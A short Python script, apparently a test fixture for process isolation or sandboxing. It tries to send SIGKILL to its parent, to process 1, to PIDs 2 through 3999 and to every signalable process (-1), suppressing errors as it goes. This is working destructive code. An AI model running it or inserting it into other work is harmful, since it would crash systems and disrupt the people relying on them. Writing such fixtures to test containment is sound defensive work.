"""Kills whatever it can: its parent, process 1, everybody."""

import contextlib
import os
import signal

for pid in (os.getppid(), 1, *range(2, 4000), -1):
    if pid != os.getpid():
        with contextlib.suppress(OSError):
            os.kill(pid, signal.SIGKILL)
